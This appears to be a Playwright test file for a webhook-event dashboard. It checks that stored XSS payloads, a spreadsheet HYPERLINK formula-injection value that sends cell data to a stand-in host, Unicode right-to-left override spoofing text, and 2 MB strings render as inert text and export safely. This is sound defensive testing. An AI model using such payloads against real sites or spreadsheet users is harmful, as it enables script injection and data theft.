import type { Page } from '@playwright/test';
import Papa from 'papaparse';
import { ask, askWell } from './ask.ts';
import { expect, test } from './fixtures.ts';
import { textsOf, withText } from './in-each-text.ts';
import { cancellation, changeOrder, customer, projectBlock } from './samples.ts';
import type { Sender } from './sender.ts';

declare global {
  interface Window {
    ran?: boolean;
  }
}

/** What must be shown as text, run nowhere and break nothing. */
const hostile = {
  script: '<script>window.ran=true</script><img src=x onerror="window.ran=true">',
  formula: '=HYPERLINK("http://example.invalid/?"&A1,"Ada")',
  turned: 'Quinn \u202egnp.exe\u202c\u2066\u200b\u200d\ufeff Zero',
  large: 'Large '.repeat(350_000),
};

type Kind = {
  /** A body of its own for each number. */
  body: (number: number) => Record<string, unknown>;
  /** What says which thing it is about and what kind of event it is: it stays as it is. */
  kept: string[];
  /** A field that its own page shows. */
  shown: string;
  send: (send: Sender, body: unknown) => Promise<string>;
};

const project = (number: number) => `a0X0000000${String(number).padStart(5, '0')}`;
const kinds: Record<string, Kind> = {
  'a customer': {
    body: (number) => customer({ id: number, external_id: `outside ${number}` }),
    kept: ['webhook_event', 'external_id'],
    shown: 'first_name',
    send: (send, body) => send.enerflo(body),
  },
  'a cancellation': {
    body: (number) => cancellation({ System_Project: project(number), Cancellation_Description: 'Moves' }),
    kept: ['System_Project', 'System', 'CreatedDate'],
    shown: 'Status',
    send: (send, body) => send.sunnova('cancellation-case', body),
  },
  'a change order': {
    body: (number) => changeOrder({ System_Project: project(number), Name: `SNV-PB-${number}` }),
    kept: ['System_Project', 'Name'],
    shown: 'Status',
    send: (send, body) => send.sunnova('change-order', body),
  },
  'a project block': {
    body: (number) =>
      projectBlock({ System_Project: project(number), Engineering_Review_Rejection_Reason: 'Too dark' }),
    kept: ['System_Project', 'System1'],
    shown: 'Status',
    send: (send, body) => send.sunnova('project-block', body),
  },
};

test('a stored script, a formula and turned text in all fields are shown as text on every page', async ({
  page,
  send,
  signIn,
  installation,
}) => {
  test.setTimeout(180_000);
  const ids: string[] = [];
  for (const [at, text] of [hostile.script, hostile.formula, hostile.turned].entries()) {
    for (const { body, kept, send: sendOne } of Object.values(kinds)) {
      const plain = body(71_000 + at);
      const changed = withText(plain, textsOf(plain, kept), text);
      ids.push(await sendOne(send, { ...Object(changed), [text]: text }));
    }
    await send.raw(`enerflo/wrong?event=${encodeURIComponent(text)}`, text);
  }
  await signIn();
  const details = [];
  for (const id of ids) {
    const { records } = await applied(page, id);
    expect(records).not.toEqual([]);
    details.push(`/events/${id}`);
    details.push(...records.map(pageOf));
  }
  const lists = ['/events', '/cancellations', '/cancellations/reference', '/refusals', '/deliveries'];
  const compare = `/events/compare?one=${ids[0]}&other=${ids[4]}`;
  for (const path of [...lists, ...details, compare, `/events?q=${encodeURIComponent(hostile.script)}`]) {
    await page.goto(path);
    await expect(page.getByRole('heading', { level: 1 }).first()).toBeVisible();
    await expect(page.locator('.animate-appear-late').filter({ visible: true })).toHaveCount(0);
    expect(await page.evaluate(() => window.ran), path).toBeUndefined();
  }
  await page.goto('/events');
  await expect(page.getByText('<script>window.ran=true</script>').first()).toBeVisible();

  const table = await page.request.get(`${installation.url}/api/events/export?format=csv`);
  expect(table.status()).toBe(200);
  const { data } = Papa.parse<string[]>((await table.text()).replace(/^\ufeff/, ''));
  expect(data.length).toBeGreaterThan(3);
  expect(data.flat().filter((cell) => /^[\s\u200b\ufeff]*[=+@＝＋－＠\t\r]/.test(cell))).toEqual([]);
});

for (const [at, [name, kind]] of Object.entries(kinds).entries()) {
  test(`a text of 2 MB in any field of ${name} is taken, listed, opened and exported`, async ({
    page,
    send,
    signIn,
    installation,
  }) => {
    test.setTimeout(180_000);
    const places = textsOf(kind.body(0), kind.kept);
    expect(places.length).toBeGreaterThan(2);
    const ids: string[] = [];
    for (const [number, place] of places.entries()) {
      const body = withText(kind.body(72_000 + 100 * at + number), [place], hostile.large);
      ids.push(await kind.send(send, body));
    }
    await signIn();
    for (const [number, id] of ids.entries()) {
      const field = places[number]?.join('.');
      await applied(page, id);
      await page.goto(`/events/${id}`);
      await expect(page.getByRole('region', { name: 'Data' }), field).toBeVisible();
      const wide = await page.evaluate(
        () => document.documentElement.scrollWidth - document.documentElement.clientWidth,
      );
      expect(wide, field).toBeLessThanOrEqual(0);
    }
    // Its page with the large value, and every list and summary that could carry it along.
    const { records } = await applied(page, ids[places.findIndex(([key]) => key === kind.shown)] ?? '');
    await page.goto(pageOf(records[0]));
    await expect(page.getByText('Large Large').first()).toBeVisible({ timeout: 30_000 });
    for (const list of ['events?limit=50', 'cases?limit=50', 'cases/facets', 'cases/reference']) {
      const { text } = await ask(page, 'GET', `/api/${list}`);
      expect(text.length, list).toBeLessThan(100_000);
    }
    const rows = await page.request.get(
      `${installation.url}/api/events/export?format=jsonl&ids=${ids.slice(0, 2).join()}`,
    );
    expect(rows.status()).toBe(200);
    expect((await rows.body()).length).toBeGreaterThan(4_000_000);
  });
}

/** An event once the worker is through with it. */
async function applied(page: Page, id: string): Promise<Applied> {
  let event: Applied | undefined;
  await expect
    .poll(async () => {
      event = await askWell(page, 'GET', `/api/events/${id}`);
      return event?.outcome;
    })
    .not.toBe('received');
  if (!event) throw new Error('unreachable');
  return event;
}

type Told = { kind: string; recordId: string | null };
type Applied = { outcome: string; records: Told[] };

function pageOf(record: Told | undefined): string {
  return `/${record?.kind === 'sunnova.cancellation' ? 'cancellations' : 'records'}/${record?.recordId}`;
}
